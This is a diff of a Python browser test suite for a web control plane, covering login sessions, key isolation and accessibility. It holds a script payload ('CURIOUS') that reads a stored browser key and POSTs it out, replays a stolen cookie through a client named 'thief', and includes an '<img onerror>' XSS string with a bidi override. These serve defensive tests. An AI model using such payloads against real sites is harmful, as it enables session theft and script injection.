@@ -1,14 +1,29 @@
-"""Logging in and out in a real browser."""
+"""What holds on every page in a real browser, logging in, and what another server of the same host is given."""
 
 from __future__ import annotations
 
+import re
+from typing import Literal
+
+import httpx
+import pytest
 from playwright.sync_api import Browser
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from control_plane.db.access import WebSession
+from control_plane.db.drones import Drone
+from control_plane.db.orders import Order
+from control_plane.db.projects import Project
+from control_plane.db.teams import Task
 from control_plane.declarations import tokens
-from tests.browser.conftest import Person
-from tests.support.fleet import Api
+from control_plane.lookups.organizations import system_caller
+from tests.browser.conftest import Person, first_of
+from tests.support import wait_until
+from tests.support.axe import need_axe, scrolls_sideways, violations
+from tests.support.filled import fill
+from tests.support.fleet import KEY_HEADER, Api
+from tests.support.receivers import Receiver
+from tests.support.routes import NOBODY, addresses_of_pages, named
 
 
 def test_a_login_link_replaces_a_session_only_by_the_button(person: Person) -> None:
@@ -21,6 +36,8 @@ def test_a_login_link_replaces_a_session_only_by_the_button(person: Person) -> N
     assert person.context.cookies() != before
 
 
+@pytest.mark.browser
+@pytest.mark.long
 def test_a_log_in_needs_no_script_but_its_own_and_has_the_browsers_key(chromium: Browser, api: Api) -> None:
     context = chromium.new_context()
     visitor = Person(api, context)
@@ -29,3 +46,60 @@ def test_a_log_in_needs_no_script_but_its_own_and_has_the_browsers_key(chromium:
     context.close()
     with api.core.database.read() as db:
         assert [each.browser_key_hash is not None for each in db.scalars(select(WebSession))] == [True]
+
+
+SUBMIT = "/actions/submit"
+CURIOUS = b"<script>fetch('/key/' + localStorage.getItem('fleet-browser-key'), { method: 'POST' })</script>"
+
+
+def test_another_port_receives_the_cookie_but_not_the_key_without_which_nothing_changes(
+    person: Person, receiver: Receiver
+) -> None:
+    person.api.add_work()
+    key = person.page.evaluate("localStorage.getItem('fleet-browser-key')")
+    receiver.answers, receiver.body, receiver.headers = [200], CURIOUS, {"Content-Type": "text/html"}
+    # A window of its own: the pages of a person may request nothing from elsewhere.
+    person.context.new_page().goto(receiver.url)
+    wait_until(lambda: [each.path for each in receiver.sent if each.path.startswith("/key/")] == ["/key/null"])
+    with httpx.Client(base_url=person.api.url, headers={"Cookie": receiver.sent[0].headers["cookie"]}) as thief:
+        order = {"prompt": "Steal it", "project": "demo"}
+        assert (thief.get("/").status_code, thief.post(SUBMIT, data=order).status_code) == (200, 403)
+        assert thief.post(SUBMIT, data=order, headers={KEY_HEADER: key}).status_code == 303
+
+
+FORMS = ("/actions/add_project", "/actions/create_schedule", "/actions/edit_project?slug={projects}")
+VIEWS = ("/orders/{orders}?panel=log", "/compare?order={orders}", "/tasks?view=list", "/cost?range=all")
+PARTS = re.compile(r"/(children|earlier|joined|news|plan|side|steps)\b")
+"""What is not a page of its own."""
+WIDTHS = (320, 375, 1280, 1920)
+LONG = "x<img src=x onerror=alert(1)>\u202eevil" + "W" * 200
+
+
+@pytest.mark.timeout(900)
+@pytest.mark.parametrize("look", first_of(("light", (320,)), ("light", WIDTHS), ("dark", WIDTHS)), ids=str)
+def test_no_page_has_an_accessibility_problem_or_is_too_wide(
+    person: Person, look: tuple[Literal["light", "dark"], tuple[int, ...]]
+) -> None:
+    """Whatever the texts are."""
+    need_axe()
+    filled = fill(person.api, system_caller(person.api.core), "mark")
+    with person.api.core.database.write() as db:
+        db.execute(update(Drone).values(version=LONG[:30], host=LONG))
+        db.execute(update(Project).values(description=LONG))
+        db.execute(update(Order).values(prompt=LONG))
+        db.execute(update(Task).values(title=LONG, description=LONG))
+    page, (scheme, widths) = person.page, look
+    page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
+    found = []
+    paths = addresses_of_pages(person.api)
+    things = [*named(paths, filled), *(each.format(**filled.names) for each in (*FORMS, *VIEWS))]
+    for path in (each for each in (*paths, *things) if not PARTS.search(each) and NOBODY not in each):
+        for width in widths:
+            page.set_viewport_size({"width": width, "height": 800})
+            answer = page.goto(person.api.url + path)
+            assert answer is not None
+            assert answer.ok, path
+            found += [f"{path} at {width}: {each}" for each in violations(page)]
+            found += [f"{path} at {width}: wider than the window"] if scrolls_sideways(page) else []
+            assert page.locator("img[src=x]").count() == 0
+    assert found == [], "\n".join(found)
